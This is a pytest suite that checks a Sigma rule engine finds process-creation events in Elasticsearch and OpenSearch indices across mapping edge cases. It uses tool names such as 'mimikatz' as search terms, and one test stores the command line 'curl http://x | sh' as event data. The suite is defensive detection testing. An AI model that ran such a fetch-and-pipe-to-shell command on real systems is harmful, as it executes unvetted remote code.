"""Cases in which an index holds less of an event than `_source`: each on both engines, from rule to hit."""

from __future__ import annotations

from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass
from datetime import UTC, datetime
from hashlib import sha256
from typing import Any

import pytest
import yaml
from support.borrowed_indices import TIME, Indices, connections, indices
from support.engines import Running

from watcher.cluster.connections import Connection
from watcher.model import QueryPlan, Rule, Window
from watcher.search.outcomes import FailedSearch
from watcher.search.query_strategy import search_by_query
from watcher.settings import Source
from watcher.sigma.metadata_reader import RuleOrigin
from watcher.sigma.rule_file import read_contents
from watcher.taxonomy.logsources import SYSMON
from watcher.translate.mapped_events import EventReader
from watcher.translate.plan import PlanCache, rule_predicate

SOURCE = Source(name="traps")
DAY = Window(start=datetime(2026, 3, 1, tzinfo=UTC), end=datetime(2026, 3, 2, tzinfo=UTC))
KEYWORD = {"type": "keyword"}
HEAD = {"channel": KEYWORD, "event_id": KEYWORD}


@dataclass(frozen=True, slots=True, kw_only=True)
class TrapResult:
    """The result of one rule."""

    plan: QueryPlan
    returned: frozenset[str]  # `index/id` of the events that the query returned
    confirmed: frozenset[str]


@dataclass(frozen=True, slots=True, kw_only=True)
class Trap:
    """The indices of one test, which rules search."""

    indices_of_engine: Indices
    connection: Connection
    name: str

    def make(self, data: Mapping[str, Any], *, index: str = "a", dynamic: Any = True, **settings: Any) -> None:
        """Create an index that maps fields of the event's data."""
        inner = {"properties": data} if "type" not in data else data
        mappings = {"dynamic": dynamic, "properties": {**TIME, "winlog": {"properties": {**HEAD, "event_data": inner}}}}
        self.indices_of_engine.make(f"winlogbeat-{self.name}-{index}", mappings, **settings)

    def fill(self, *data: Mapping[str, Any], index: str = "a") -> None:
        """Index process creations with such data."""
        self.write(
            [{"winlog": {"channel": SYSMON, "event_id": "1", "event_data": event_data}} for event_data in data],
            index=index,
        )

    def write(self, events: Sequence[Mapping[str, Any]], index: str = "a") -> None:
        """Index events unchanged, but for their timestamp."""
        stamped = [{"@timestamp": "2026-03-01T12:00:00.123Z", **event} for event in events]
        self.indices_of_engine.fill(f"winlogbeat-{self.name}-{index}", stamped)

    def find(self, selection: Any, condition: str = "selection", **logsource: str) -> TrapResult:
        """Search by a rule and confirm the returned events."""
        rule = rule_of(selection, condition, logsource or {"product": "windows", "category": "process_creation"})
        cache = PlanCache(SOURCE, (rule,))
        predicate = rule_predicate(rule, SOURCE)
        events, pattern = self.connection.events(), f"winlogbeat-{self.name}-*"
        returned, confirmed = set(), set()
        with events.open(pattern, DAY, time_field="@timestamp") as snapshot:
            mapping = events.mapping(pattern, cache.paths)
            event_reader = EventReader(SOURCE, mapping)
            (plan,) = cache.plans(mapping)
            for outcome in search_by_query(snapshot, [plan]):
                assert not isinstance(outcome, FailedSearch), outcome
                for document in outcome.documents:
                    document_id = f"{document.index.rsplit('-', 1)[1]}/{document.id}"
                    returned.add(document_id)
                    if predicate(event_reader.view(document)):
                        confirmed.add(document_id)
        return TrapResult(plan=plan, returned=frozenset(returned), confirmed=frozenset(confirmed))

    def hits(self, selection: Any, condition: str = "selection", **logsource: str) -> set[str]:
        """Return the confirmed events of a rule."""
        return set(self.find(selection, condition, **logsource).confirmed)


def rule_of(selection: Any, condition: str, logsource: Mapping[str, str]) -> Rule:
    """Return a rule with one selection."""
    body = {
        "title": "trap",
        "logsource": dict(logsource),
        "detection": {"selection": selection, "condition": condition},
    }
    (rule,) = read_contents(yaml.safe_dump(body, allow_unicode=True), file="trap.yml", origin=RuleOrigin()).rules
    return rule


@pytest.fixture
def trap(engine: Running, request: pytest.FixtureRequest) -> Iterator[Trap]:
    name = "".join(letter for letter in request.node.originalname.removeprefix("test_") if letter.isalpha())[:40]
    with indices(engine.admin()) as indices_of_engine, connections(engine.cluster()) as connection:
        yield Trap(indices_of_engine=indices_of_engine, connection=connection, name=name)


# --------------------------------------------------------------------------- letters


def test_letters_outside_ascii_match_in_any_case(trap: Trap) -> None:
    trap.make({"F": KEYWORD})
    trap.fill({"F": "C:\\ÉCOLE\\Straße.exe"}, {"F": "c:\\école\\STRAßE.EXE"}, {"F": "C:\\ecole\\x.exe"})
    assert trap.hits({"F|contains": "\\École\\"}) == {"a/0", "a/1"}
    assert trap.hits({"F": "C:\\école\\straße.exe"}) == {"a/0", "a/1"}
    assert trap.hits({"F|startswith": "c:\\É"}) == {"a/0", "a/1"}
    assert trap.hits({"F|contains": "É", "F|endswith": ".exe"}, "not selection") == {"a/2"}


def test_a_letter_that_lowers_to_ascii_is_another_letter(trap: Trap) -> None:
    trap.make({"F": KEYWORD})
    trap.fill({"F": "\N{KELVIN SIGN}eylog"}, {"F": "KEYLOG"})
    assert trap.hits({"F": "keylog"}) == {"a/1"}
    assert trap.hits({"F": "keylog"}, "not selection") == {"a/0"}


# --------------------------------------------------------------------------- values longer than ignore_above

LONG = "x" * 300 + " mimikatz " + "y" * 300


@pytest.mark.parametrize(
    "mapping",
    [
        {"type": "keyword", "ignore_above": 256},
        {"type": "keyword", "ignore_above": 256, "fields": {"text": {"type": "text"}}},
        {"type": "text", "fields": {"keyword": {"type": "keyword", "ignore_above": 256}}},
        {"type": "text"},
    ],
    ids=["keyword", "keyword with text", "text with keyword", "text"],
)
def test_a_value_longer_than_ignore_above_is_found_also_beside_a_short_value(
    trap: Trap, mapping: Mapping[str, Any]
) -> None:
    trap.make({"F": mapping})
    trap.fill({"F": "mimikatz"}, {"F": LONG}, {"F": ["short", LONG]}, {"F": "short"}, {"G": "x"})
    assert trap.hits({"F|contains": "MIMIKATZ"}) == {"a/0", "a/1", "a/2"}
    assert trap.hits({"F|contains": "mimikatz"}, "not selection") == {"a/3", "a/4"}
    assert trap.hits({"F|endswith": "y"}) == {"a/1", "a/2"}
    assert trap.hits({"F|re": "m[i]mi.*y$"}) == {"a/1", "a/2"}
    assert trap.hits({"F": LONG.upper()}) == {"a/1", "a/2"}
    assert trap.hits({"F": None}) == {"a/4"}
    assert trap.hits({"F|exists": True}) == {"a/0", "a/1", "a/2", "a/3"}


@pytest.mark.parametrize("letter", ["x", "\N{MATHEMATICAL BOLD CAPITAL A}", "é"])
def test_a_word_too_long_for_the_analyzer_is_found(trap: Trap, letter: str) -> None:
    """The standard analyzer splits words after 255 UTF-16 units, perhaps inside the searched string."""
    trap.make({"F": {"type": "keyword", "ignore_above": 100, "fields": {"text": {"type": "text"}}}})
    trap.fill(*({"F": f"{letter}{'a' * (count - 1)}mimikatz{'b' * 60}"} for count in range(246, 256)))
    assert len(trap.hits({"F|contains": "mimikatz"})) == 10


# --------------------------------------------------------------------------- unindexed values


def test_a_field_that_the_index_does_not_map_is_found_in_the_event(trap: Trap) -> None:
    trap.make({"Other": KEYWORD}, dynamic=False)
    trap.fill({"F": "mimikatz", "Other": "a"}, {"F": "calc", "Other": "a"}, {"Other": "a"})
    assert trap.hits({"F|contains": "mimi"}) == {"a/0"}
    assert trap.hits({"F|contains": "mimi"}, "not selection") == {"a/1", "a/2"}
    assert trap.hits({"F": None}) == {"a/2"}


def test_a_field_beyond_the_limit_of_the_mapping_is_found_in_the_event(trap: Trap, engine: Running) -> None:
    if engine.ca is None:
        trap.make({"Other": KEYWORD}, **{"index.mapping.total_fields.limit": 8})
        with pytest.raises(AssertionError, match="Limit of total fields"):  # there the whole event is refused
            trap.fill({f"F{number}": "a" for number in range(9)})
        return
    limits = {
        "index.mapping.total_fields.limit": 8,
        "index.mapping.total_fields.ignore_dynamic_beyond_limit": True,
    }
    trap.make({"Other": KEYWORD}, **limits)
    trap.fill({f"F{number}": "a" for number in range(9)}, {"F8": "b"})
    assert trap.hits({"F8": "A"}) == {"a/0"}
    assert trap.hits({"F8": "a"}, "not selection") == {"a/1"}


def test_a_field_that_is_not_indexed_is_found(trap: Trap) -> None:
    trap.make({"F": {"type": "keyword", "index": False, "doc_values": False}})
    trap.fill({"F": "mimikatz"}, {"F": "calc"})
    assert trap.hits({"F|contains": "mimi"}) == {"a/0"}
    assert trap.hits({"F|contains": "mimi"}, "not selection") == {"a/1"}


def test_a_malformed_value_is_found_in_the_event(trap: Trap) -> None:
    trap.make({"F": {"type": "long", "ignore_malformed": True}, "G": {"type": "ip", "ignore_malformed": True}})
    trap.fill({"F": "0x10", "G": "-"}, {"F": "16", "G": "10.0.0.1"}, {"F": 17, "G": "::ffff:10.0.0.1"})
    assert trap.hits({"F": "0x10"}) == {"a/0"}
    assert trap.hits({"F": 16}) == {"a/1"}
    assert trap.hits({"F|gte": 16}) == {"a/0", "a/1", "a/2"}
    assert trap.hits({"G": "-"}) == {"a/0"}
    assert trap.hits({"G|cidr": "10.0.0.0/8"}) == {"a/1", "a/2"}
    assert trap.hits({"G|cidr": "10.0.0.0/8"}, "not selection") == {"a/0"}


# --------------------------------------------------------------------------- several indices


def test_a_field_of_several_types_is_searched_in_each_index_by_its_type(trap: Trap) -> None:
    kinds = {
        "keyword": KEYWORD,
        "text": {"type": "text"},
        "long": {"type": "long", "ignore_malformed": True},
        "ip": {"type": "ip", "ignore_malformed": True},
        "date": {"type": "date", "ignore_malformed": True},
        "boolean": {"type": "keyword", "normalizer": "low"},
    }
    lowered = {"analysis": {"normalizer": {"low": {"type": "custom", "filter": ["lowercase"]}}}}
    for name, mapping in kinds.items():
        trap.make({"F": mapping}, index=name, **(lowered if name == "boolean" else {}))
        trap.fill({"F": "445"}, {"F": "Mimikatz.exe"}, {"G": "a"}, index=name)
    every = set(kinds)
    assert trap.hits({"F": 445}) == {f"{name}/0" for name in every}
    assert trap.hits({"F|gt": 444}) == {f"{name}/0" for name in every}
    assert trap.hits({"F|endswith": "KATZ.exe"}) == {f"{name}/1" for name in every}
    assert trap.hits({"F|cased|startswith": "Mimi"}) == {f"{name}/1" for name in every}
    assert trap.hits({"F|re": "^M.*e$"}) == {f"{name}/1" for name in every}
    assert trap.hits({"F|contains": "mimikatz"}, "not selection") == {f"{n}/{i}" for n in every for i in (0, 2)}
    assert trap.hits({"F": ""}) == {f"{name}/2" for name in every}


def test_a_closed_index_is_reported_and_the_others_are_searched(trap: Trap) -> None:
    for name in ("open", "closed"):
        trap.make({"F": KEYWORD}, index=name)
        trap.fill({"F": "mimikatz"}, index=name)
    trap.indices_of_engine.ask("POST", f"/winlogbeat-{trap.name}-closed/_close")
    assert trap.hits({"F": "mimikatz"}) == {"open/0"}
    mapping = trap.connection.events().mapping(f"winlogbeat-{trap.name}-*", ["winlog.event_data.F"])
    assert mapping.closed == (f"winlogbeat-{trap.name}-closed",)


def test_events_of_one_millisecond_on_several_shards_are_all_found(trap: Trap) -> None:
    trap.make({"F": KEYWORD}, number_of_shards=3)
    trap.fill(*({"F": f"mimikatz {number}"} for number in range(2_600)))
    assert len(trap.hits({"F|contains": "MIMIKATZ"})) == 2_600


# --------------------------------------------------------------------------- how documents and mappings are written


def test_a_field_is_found_at_nested_and_dotted_paths(trap: Trap) -> None:
    trap.make({"F": KEYWORD})
    trap.write(
        [
            {"winlog": {"channel": SYSMON, "event_id": "1", "event_data": {"F": "mimikatz"}}},
            {"winlog.channel": SYSMON, "winlog.event_id": "1", "winlog.event_data.F": "mimikatz"},
            {"winlog": {"channel": SYSMON, "event_id": "1", "event_data.F": ["calc", "mimikatz"]}},
            {"winlog.channel": SYSMON, "winlog": {"event_id": "1", "event_data": {"F": "mimikatz"}}},
            {"winlog.event_data": {"F": "mimikatz"}, "winlog": {"channel": SYSMON}, "winlog.event_id": "1"},
            {"winlog": [{"channel": SYSMON, "event_id": "1"}, {"event_data": [{"F": "calc"}, {"F": "mimikatz"}]}]},
            {"winlog": {"channel": SYSMON, "event_id": "1", "event_data": {"F": "calc"}}},
        ]
    )
    assert trap.hits({"F": "MIMIKATZ"}) == {f"a/{number}" for number in range(6)}
    assert trap.hits({"F": "mimikatz"}, "not selection") == {"a/6"}


def test_an_alias_field_is_read_at_its_target(trap: Trap) -> None:
    properties = {"F": {"type": "alias", "path": "winlog.event_data.Real"}, "Real": KEYWORD}
    trap.make(properties)
    trap.fill({"Real": "mimikatz"}, {"Real": "calc"}, {"Other": "a"})
    assert trap.hits({"F|contains": "MIMI"}) == {"a/0"}
    assert trap.hits({"F|contains": "mimi"}, "not selection") == {"a/1", "a/2"}
    assert trap.hits({"F": None}) == {"a/2"}


def test_a_constant_keyword_is_read_from_the_mapping(trap: Trap, engine: Running) -> None:
    if engine.ca is not None:
        pytest.skip("the Elasticsearch of the tests has no `constant_keyword`")
    trap.make({"F": {"type": "constant_keyword", "value": "Mimikatz"}})
    trap.fill({"G": "a"}, {"F": "Mimikatz"})
    assert trap.hits({"F|contains": "mimi"}) == {"a/0", "a/1"}
    assert trap.hits({"F|contains": "calc"}, "not selection") == {"a/0", "a/1"}


def test_a_rule_on_a_computed_field_has_a_finding_and_searches_its_log_source(trap: Trap, engine: Running) -> None:
    """Its values are in no event."""
    path = "winlog.event_data.F"
    source = "emit(params._source.winlog.event_data.G)" if engine.ca is None else None
    computed = {path: {"type": "keyword", **({"script": {"source": source}} if source else {})}}
    mappings = {
        "properties": {**TIME, "winlog": {"properties": {**HEAD, "event_data": {"properties": {"G": KEYWORD}}}}},
        "derived" if engine.ca is None else "runtime": computed,
    }
    trap.indices_of_engine.make(f"winlogbeat-{trap.name}-a", mappings)
    trap.fill({"G": "mimikatz"})
    result = trap.find({"F|contains": "mimi"})
    assert "computed-field" in [finding.code for finding in result.plan.findings]
    assert result.returned == {"a/0"}  # searched by its log source alone


# --------------------------------------------------------------------------- limits


def test_a_rule_of_more_clauses_than_the_engine_allows_is_searched_in_parts(trap: Trap) -> None:
    trap.make({"F": KEYWORD, "G": KEYWORD})
    trap.fill({"F": "a value 3999 b", "G": "x"}, {"F": "a value 0 b", "G": "x"}, {"F": "a value 3999 b", "G": "y"})
    values = [f"value {number} " for number in range(4_000)]
    result = trap.find({"F|contains": values, "G": "X"})
    assert result.confirmed == {"a/0", "a/1"}
    assert result.plan.parts or trap.connection.events().mapping("x-*", ()).max_clauses > 4_000


def test_a_rule_with_too_many_patterns_searches_for_the_presence_of_its_fields(trap: Trap) -> None:
    """As hashes of thousands of drivers: a node with little memory fails to build automata of them all."""
    trap.make({"F": KEYWORD, "G": KEYWORD})
    hashes = [sha256(str(number).encode()).hexdigest() for number in range(2_000)]
    trap.fill({"F": f"MD5=0,SHA256={hashes[1_999].upper()}"}, {"F": "SHA256=0"}, {"G": "x"})
    result = trap.find({"F|contains": [f"SHA256={digest}" for digest in hashes]})
    assert (result.returned, result.confirmed) == ({"a/0", "a/1"}, {"a/0"})
    assert not result.plan.parts
    assert trap.hits({"F|contains": [f"SHA256={digest}" for digest in hashes]}, "not selection") == {"a/1", "a/2"}


def test_patterns_on_a_wildcard_field_count_as_their_trigram_clauses(trap: Trap, engine: Running) -> None:
    """OpenSearch creates a clause for each trigram: 100 patterns exceed its limit."""
    if engine.ca is not None:
        pytest.skip("the Elasticsearch of the tests has no `wildcard`")
    trap.make({"F": {"type": "wildcard"}})
    trap.fill({"F": "run the 99th remote access program now"}, {"F": "calc"})
    values = [f"the {number}th remote access program" for number in range(100)]
    assert trap.hits({"F|contains": values}) == {"a/0"}
    assert trap.hits({"F|contains": values}, "not selection") == {"a/1"}
    assert trap.find({"F|contains": values}).plan.parts


# --------------------------------------------------------------------------- other products


def test_a_rule_of_another_product_reads_ecs_and_no_windows_events(trap: Trap) -> None:
    trap.make({"CommandLine": KEYWORD})
    trap.write(
        [
            {"process": {"command_line": "curl http://x | sh", "executable": "/usr/bin/curl"}},
            {"CommandLine": "curl http://x | sh", "Image": "/usr/bin/curl"},  # as another shipper names it
            {"winlog": {"channel": SYSMON, "event_id": "1", "event_data": {"CommandLine": "curl http://x | sh"}}},
            {"process": {"command_line": "ls"}},
        ]
    )
    logsource = {"product": "linux", "category": "process_creation"}
    assert trap.hits({"CommandLine|contains": "CURL "}, **logsource) == {"a/0", "a/1"}
    assert trap.hits({"CommandLine|contains": "curl "}, "not selection", **logsource) == {"a/3"}
    assert trap.hits({"CommandLine|contains": "curl "}) == {"a/2"}
    assert trap.find({"CommandLine|contains": "curl "}, **logsource).plan.findings == ()
    (finding,) = trap.find({"CommandLine|contains": "curl "}, product="qflow", service="flows").plan.findings
    assert finding.code == "unknown-logsource"


# --------------------------------------------------------------------------- numbers


def test_an_integer_is_found_in_each_of_its_spellings(trap: Trap) -> None:
    trap.make({"F": KEYWORD, "G": {"type": "text", "fields": {"keyword": {"type": "keyword", "ignore_above": 256}}}})
    written = ("5", "005", "+5", "-5", "5.0", "0x5", 5, "0", "-0", "")
    trap.fill(*({"F": value, "G": value} for value in written))
    for name in "FG":
        assert trap.hits({name: 5}) == {"a/0", "a/1", "a/2", "a/6"}
        assert trap.hits({name: -5}) == {"a/3"}
        assert trap.hits({name: 0}) == {"a/7", "a/8"}
        assert trap.hits({name: 5}, "not selection") == {"a/3", "a/4", "a/5", "a/7", "a/8", "a/9"}
